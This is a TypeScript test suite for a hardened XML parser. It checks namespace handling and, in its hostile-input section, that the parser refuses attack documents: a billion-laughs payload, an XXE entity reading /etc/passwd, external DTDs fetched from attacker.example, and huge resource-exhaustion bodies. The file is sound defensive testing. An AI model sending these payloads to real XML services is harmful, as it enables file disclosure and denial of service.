import { attr, child, children, parseXml, resolveQName, XML_NS, XmlError, XmlErrorKind } from '../index';

// Namespaces of a SOAP request, the parser's first user; any URIs would do.
const NS = {
  SOAP: 'http://schemas.xmlsoap.org/soap/envelope/',
  MESSAGES: 'http://schemas.microsoft.com/exchange/services/2006/messages',
  TYPES: 'http://schemas.microsoft.com/exchange/services/2006/types',
  XSI: 'http://www.w3.org/2001/XMLSchema-instance',
  XML: XML_NS.XML,
} as const;

/** Runs `fn`, which must throw an `XmlError`, and returns that error. */
function xmlErrorOf(fn: () => unknown): XmlError {
  try {
    fn();
  } catch (e) {
    if (e instanceof XmlError) return e;
    throw new Error(`expected an XmlError, got ${String(e)}`, { cause: e });
  }
  throw new Error('expected an XmlError, nothing was thrown');
}

describe('parseXml: namespaces', () => {
  it('resolves any prefix through the xmlns declarations in scope', () => {
    const root = parseXml(
      `<env:Envelope xmlns:env="${NS.SOAP}"><env:Body><ews:GetFolder xmlns:ews="${NS.MESSAGES}" xmlns:typ="${NS.TYPES}">` +
        '<ews:FolderIds><typ:DistinguishedFolderId Id="inbox"/></ews:FolderIds></ews:GetFolder></env:Body></env:Envelope>',
    );
    expect([root.ns, root.local, root.prefix]).toEqual([NS.SOAP, 'Envelope', 'env']);
    const op = child(child(root, NS.SOAP, 'Body'), NS.MESSAGES, 'GetFolder');
    const id = child(child(op, NS.MESSAGES, 'FolderIds'), NS.TYPES, 'DistinguishedFolderId');
    expect(attr(id, 'Id')).toBe('inbox');
  });

  it('resolves default namespaces, their redeclaration and undeclaration', () => {
    const root = parseXml(
      `<Envelope xmlns="${NS.SOAP}"><Body><GetFolder xmlns="${NS.MESSAGES}"><FolderIds>` +
        `<DistinguishedFolderId xmlns="${NS.TYPES}" Id="calendar"/><Plain xmlns=""/></FolderIds></GetFolder></Body></Envelope>`,
    );
    const ids = child(child(child(root, NS.SOAP, 'Body'), NS.MESSAGES, 'GetFolder'), NS.MESSAGES, 'FolderIds');
    expect(children(ids).map((c) => [c.ns, c.local])).toEqual([
      [NS.TYPES, 'DistinguishedFolderId'],
      ['', 'Plain'],
    ]);
  });

  it('lets an inner declaration rebind a prefix for its subtree only', () => {
    const root = parseXml(`<p:a xmlns:p="urn:one"><p:b xmlns:p="urn:two"><p:c/></p:b><p:d/></p:a>`);
    const [b, d] = root.children;
    expect([b.ns, b.children[0].ns, d.ns]).toEqual(['urn:two', 'urn:two', 'urn:one']);
  });

  it('keeps namespaced attributes apart from plain ones, and resolves QName values', () => {
    const root = parseXml(
      `<t:Items xmlns:t="${NS.TYPES}" xmlns:i="${NS.XSI}"><t:Item i:type="t:CalendarItemType" Id="1" xml:lang="fr"/></t:Items>`,
    );
    const item = root.children[0];
    expect(item.attrs).toEqual({ Id: '1' });
    expect(attr(item, 'type', NS.XSI)).toBe('t:CalendarItemType');
    expect(attr(item, 'lang', NS.XML)).toBe('fr');
    expect(attr(item, 'type')).toBeUndefined();
    expect(resolveQName(item, 't:CalendarItemType')).toEqual({ ns: NS.TYPES, local: 'CalendarItemType' });
    expect(resolveQName(item, 'nope:X')).toBeUndefined();
  });

  it('parses empty elements with attributes, keeps child order and text exactly', () => {
    const root = parseXml(
      `<t:Item xmlns:t="${NS.TYPES}"><t:Subject>  two  spaces </t:Subject><t:Body BodyType="Text"/><t:Start>x</t:Start></t:Item>`,
    );
    expect(root.children.map((c) => c.local)).toEqual(['Subject', 'Body', 'Start']);
    expect(root.children[0].text).toBe('  two  spaces ');
    const body = root.children[1];
    expect([attr(body, 'BodyType'), body.text, body.children]).toEqual(['Text', '', []]);
  });

  it('expands predefined entities and character references, keeps CDATA literal', () => {
    const root = parseXml('<a b="&lt;&amp;&quot;&#x41;&#66;">&lt;p&gt; &amp; &apos;&#x1F600;<![CDATA[<b>&amp;</b>]]></a>');
    expect(root.attrs.b).toBe('<&"AB');
    expect(root.text).toBe("<p> & '😀<b>&amp;</b>");
  });

  it('normalises line ends and literal whitespace in attribute values, as XML requires', () => {
    const root = parseXml('<a b="x\ty\r\nz" c="&#9;&#10;&#13;">1\r\n2\r3</a>');
    expect(root.attrs).toEqual({ b: 'x y z', c: '\t\n\r' });
    expect(root.text).toBe('1\n2\n3');
  });

  it('accepts a UTF-8 buffer with a byte order mark and an XML declaration', () => {
    const xml = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from('<?xml version="1.0" encoding="UTF-8"?><a>é</a>')]);
    expect(parseXml(xml).text).toBe('é');
  });
});

describe('parseXml: hostile input', () => {
  const billionLaughs =
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">' +
    Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('') +
    ']><lolz>&lol9;</lolz>';

  it('refuses a billion-laughs document at its DOCTYPE, before any expansion', () => {
    const err = xmlErrorOf(() => parseXml(billionLaughs));
    expect(err.kind).toBe(XmlErrorKind.DtdForbidden);
    expect(err.location).toEqual({ line: 1, position: 22 });
  });

  it('refuses external entities and external DTDs', () => {
    for (const xml of [
      '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><a>&xxe;</a>',
      '<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]><a/>',
      '<a><!ENTITY x "y"></a>',
    ]) {
      expect(xmlErrorOf(() => parseXml(xml)).kind).toBe(XmlErrorKind.DtdForbidden);
    }
  });

  it('refuses a reference to an undeclared entity instead of passing it through', () => {
    const err = xmlErrorOf(() => parseXml('<a>&xxe;</a>'));
    expect(err.kind).toBe(XmlErrorKind.Malformed);
    expect(err.message).toMatch(/undeclared entity '&xxe;'/);
  });

  it('refuses 10,000-deep nesting without recursing', () => {
    const deep = '<a>'.repeat(10_000) + '</a>'.repeat(10_000);
    const err = xmlErrorOf(() => parseXml(deep));
    expect(err.kind).toBe(XmlErrorKind.TooDeep);
    expect(xmlErrorOf(() => parseXml('<a>'.repeat(1_000_000))).kind).toBe(XmlErrorKind.TooDeep);
  });

  it('enforces the configured depth exactly', () => {
    const nested = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
    expect(() => parseXml(nested(64))).not.toThrow();
    expect(xmlErrorOf(() => parseXml(nested(65))).kind).toBe(XmlErrorKind.TooDeep);
    expect(xmlErrorOf(() => parseXml(nested(4), { maxDepth: 3 })).kind).toBe(XmlErrorKind.TooDeep);
    let el = parseXml(nested(1000), { maxDepth: 1000 });
    let depth = 1;
    while (el.children.length > 0) [el, depth] = [el.children[0], depth + 1];
    expect(depth).toBe(1000);
    expect(() => parseXml('<a/>', { maxDepth: 100_000 })).toThrow(RangeError);
  });

  it('refuses input over the byte limit, counting bytes not characters', () => {
    expect(xmlErrorOf(() => parseXml(`<a>${'x'.repeat(100)}</a>`, { maxBytes: 100 })).kind).toBe(XmlErrorKind.TooLarge);
    expect(xmlErrorOf(() => parseXml(`<a>${'é'.repeat(45)}</a>`, { maxBytes: 90 })).kind).toBe(XmlErrorKind.TooLarge);
    expect(xmlErrorOf(() => parseXml(Buffer.alloc(101, 0x20), { maxBytes: 100 })).kind).toBe(XmlErrorKind.TooLarge);
    expect(parseXml(`<a>${'é'.repeat(42)}</a>`, { maxBytes: 91 }).text).toHaveLength(42);
  });

  it('refuses too many elements', () => {
    expect(xmlErrorOf(() => parseXml(`<a>${'<b/>'.repeat(11)}</a>`, { maxElements: 10 })).kind).toBe(XmlErrorKind.TooManyElements);
  });
});

describe('parseXml: bounded work', () => {
  const attrs = (n: number, from = 0) => Array.from({ length: n }, (_, i) => ` a${from + i}="1"`).join('');
  const refusal = (xml: string, options = {}) => {
    return xmlErrorOf(() => parseXml(xml, options));
  };

  it('enforces the attributes per element exactly, namespace declarations included', () => {
    expect(parseXml(`<a${attrs(32)}/>`).attrs.a31).toBe('1');
    expect(refusal(`<a${attrs(33)}/>`).kind).toBe(XmlErrorKind.TooManyAttributes);
    expect(() => parseXml(`<a xmlns:p="urn:p"${attrs(3)}/>`, { maxAttributesPerElement: 4 })).not.toThrow();
    expect(refusal(`<a xmlns:p="urn:p"${attrs(4)}/>`, { maxAttributesPerElement: 4 }).message).toBe(
      "Element 'a' has more than 4 attributes.",
    );
  });

  it('enforces the attributes in the whole document exactly', () => {
    const doc = (perChild: number) => `<r>${Array.from({ length: 5 }, (_, i) => `<b${attrs(perChild, i * perChild)}/>`).join('')}</r>`;
    expect(() => parseXml(doc(2), { maxAttributes: 10 })).not.toThrow();
    const err = refusal(doc(3), { maxAttributes: 10 });
    expect([err.kind, err.message]).toEqual([XmlErrorKind.TooManyAttributes, 'The request has more than 10 attributes.']);
    // Reported at the eleventh attribute.
    expect(err.location).toEqual({ line: 1, position: doc(3).indexOf('a10=') + 1 });
  });

  it('enforces the attribute value length as written, before references are expanded', () => {
    expect(parseXml(`<a v="${'x'.repeat(16 * 1024)}"/>`).attrs.v).toHaveLength(16 * 1024);
    expect(refusal(`<a v="${'x'.repeat(16 * 1024 + 1)}"/>`).kind).toBe(XmlErrorKind.TooLong);
    expect(() => parseXml(`<a v="&amp;"/>`, { maxAttributeLength: 5 })).not.toThrow();
    expect(refusal(`<a v="&amp;&amp;"/>`, { maxAttributeLength: 5 }).kind).toBe(XmlErrorKind.TooLong);
  });

  it('enforces the text of one element: its runs and CDATA sections together, children not counted', () => {
    const limit = { maxTextLength: 10 };
    expect(parseXml('<a>12345<!-- c -->12345</a>', limit).text).toBe('1234512345');
    expect(refusal('<a>12345<!-- c -->123456</a>', limit).kind).toBe(XmlErrorKind.TooLong);
    expect(refusal('<a>12345<![CDATA[123456]]></a>', limit).message).toBe("Element 'a' has more than 10 characters of text.");
    expect(parseXml('<a>1234567890<b>1234567890</b>1234567890</a>', { maxTextLength: 20 }).text).toHaveLength(20);
    expect(refusal('<a>1234567890<b>1234567890</b>12345678901</a>', { maxTextLength: 20 }).kind).toBe(XmlErrorKind.TooLong);
  });

  it('enforces the text of the whole document', () => {
    const doc = `<r>${'<b>12345</b>'.repeat(4)}</r>`;
    expect(() => parseXml(doc, { maxTotalTextLength: 20 })).not.toThrow();
    expect(refusal(doc, { maxTotalTextLength: 19 }).message).toBe('The request has more than 19 characters of text.');
  });

  it('refuses an out-of-range limit when called, not on the first hostile request', () => {
    for (const key of ['maxAttributesPerElement', 'maxAttributes', 'maxAttributeLength', 'maxTextLength', 'maxTotalTextLength']) {
      expect(() => parseXml('<a/>', { [key]: 0 })).toThrow(RangeError);
    }
  });

  // The hostile bodies of the issue, near a 10 MiB body limit: refused in the scan, at their first
  // excess, long before fast-xml-parser would spend seconds and a gigabyte on them (1.4 s, 1.7 s and
  // 9.8 s for a full parse of the three below on the machine this was written on; the refusals take
  // 10–70 ms). Where the scan stopped is asserted, not how long it took, so a loaded CI machine cannot
  // fail it; the time bound only catches a full parse of the worst body. bench:ews --hostile measures
  // the refusals' speed.
  const MiB = 1024 * 1024;
  const FULL_PARSE_MS = 5_000;
  const timed = (xml: string) => {
    const body = Buffer.from(xml);
    const started = performance.now();
    const err = xmlErrorOf(() => parseXml(body, { maxBytes: 10 * MiB }));
    return { err, ms: performance.now() - started, bytes: body.length };
  };

  it('refuses one element with ~1,000,000 distinct attributes (9.9 MB) at its first excess', () => {
    const { err, ms, bytes } = timed(`<a${Array.from({ length: 1_000_000 }, (_, i) => ` a${i.toString(36)}="1"`).join('')}/>`);
    expect(bytes).toBeGreaterThan(9 * MiB);
    expect(err.kind).toBe(XmlErrorKind.TooManyAttributes);
    expect(err.location?.position).toBeLessThan(10_000);
    expect(ms).toBeLessThan(FULL_PARSE_MS);
  });

  it('refuses 170,000 ItemIds, 500,000 empty elements and a 9.9 MB text at their first excess', () => {
    const ids = timed(
      `<m:GetItem xmlns:m="urn:m" xmlns:t="urn:t"><m:ItemIds>${Array.from({ length: 170_000 }, (_, i) => `<t:ItemId Id="AAMk${String(i).padStart(36, '0')}"/>`).join('')}</m:ItemIds></m:GetItem>`,
    );
    expect(ids.bytes).toBeGreaterThan(9 * MiB);
    // One attribute per id: the element and attribute limits (20,000 each) are met together, a ninth of the way in.
    expect([XmlErrorKind.TooManyElements, XmlErrorKind.TooManyAttributes]).toContain(ids.err.kind);
    expect(ids.err.location?.position).toBeLessThan(ids.bytes / 5);
    expect(ids.ms).toBeLessThan(FULL_PARSE_MS);
    const elements = timed(`<a>${'<b/>'.repeat(500_000)}</a>`);
    expect(elements.err.kind).toBe(XmlErrorKind.TooManyElements);
    expect(elements.err.location?.position).toBeLessThan(elements.bytes / 10);
    expect(elements.ms).toBeLessThan(FULL_PARSE_MS);
    const text = timed(`<a>${'x'.repeat(9.9 * MiB)}</a>`);
    expect(text.err.kind).toBe(XmlErrorKind.TooLong);
    expect(text.ms).toBeLessThan(FULL_PARSE_MS);
  });

  it.each([
    ['mismatched tags', '<a><b></a></b>'],
    ['an unclosed element', '<?xml version="1.0"?><a><b/>'],
    ['an end tag without start', '<a/></a>'],
    ['an unquoted attribute', '<a x=1/>'],
    ['a repeated attribute', '<a x="1" x="2"/>'],
    ['the same attribute under two prefixes', '<a xmlns:p="urn:x" xmlns:q="urn:x" p:y="1" q:y="2"/>'],
    ['a bare ampersand', '<a>fish & chips</a>'],
    ['"<" in an attribute', '<a b="<"/>'],
    ['text after the root', '<a/>tail'],
    ['two roots', '<a/><b/>'],
    ['no root at all', '   '],
    ['an empty document', ''],
    ['an unbound element prefix', '<p:a/>'],
    ['an unbound attribute prefix', '<a p:b="1"/>'],
    ['a prefix bound to nothing', '<a xmlns:p=""/>'],
    ['a name with two colons', '<a:b:c xmlns:a="urn:a"/>'],
    ['a forbidden control character', '<a>\u0001</a>'],
    ['a reference to a forbidden character', '<a>&#1;</a>'],
    ['a reference to a surrogate', '<a>&#xD800;</a>'],
    ['an unterminated comment', '<a><!-- </a>'],
    ['an unterminated start tag', '<a><b'],
    ['a misplaced XML declaration', '<a><?xml version="1.0"?></a>'],
    ['an attribute without a value', '<a b/>'],
    ['an attribute without "="', '<a b "1"/>'],
    ['attributes without whitespace between them', '<a x="1"y="2"/>'],
    ['an unterminated attribute value', '<a x="1/>'],
    ['an element name starting with a digit', '<1a/>'],
    ['an element name with a bad character', '<a*b/>'],
    ['an attribute name starting with a hyphen', '<a -x="1"/>'],
    ['an end tag with an attribute', '<a></a x="1">'],
    ['whitespace before an end tag name', '<a></ a>'],
    ['a start tag with "/" inside', '<a/b="1"></a>'],
    ['a "/" apart from the ">" of an empty element', '<a/ >'],
    ['a start tag cut by another', '<a x="1" <b/>'],
  ])('refuses %s as malformed', (_what, xml) => {
    const err = xmlErrorOf(() => parseXml(xml));
    expect(err.kind).toBe(XmlErrorKind.Malformed);
  });

  it('accepts what XML allows in tags: single quotes, spaces around "=", a space before "/>", non-ASCII names, ">" and "/" in values', () => {
    const root = parseXml(`<a x = 'one' y="t'wo" z="a>b/>c"\n\t><b z="1" /><é·ü xmlns="urn:u"/></a >`);
    expect(root.attrs).toEqual({ x: 'one', y: "t'wo", z: 'a>b/>c' });
    expect(root.children.map((c) => c.local)).toEqual(['b', 'é·ü']);
  });

  it('reports where the document went wrong', () => {
    expect(xmlErrorOf(() => parseXml('<a>\n  <b></c>\n</a>')).location).toEqual({ line: 2, position: 6 });
  });

  it('refuses bytes that are not UTF-8, UTF-16 and other declared encodings', () => {
    expect(xmlErrorOf(() => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xff, 0x3c, 0x2f, 0x61, 0x3e]))).kind).toBe(
      XmlErrorKind.InvalidEncoding,
    );
    expect(xmlErrorOf(() => parseXml(Buffer.from('\ufeff<a/>', 'utf16le'))).kind).toBe(XmlErrorKind.InvalidEncoding);
    expect(xmlErrorOf(() => parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><a/>')).kind).toBe(XmlErrorKind.InvalidEncoding);
  });
});
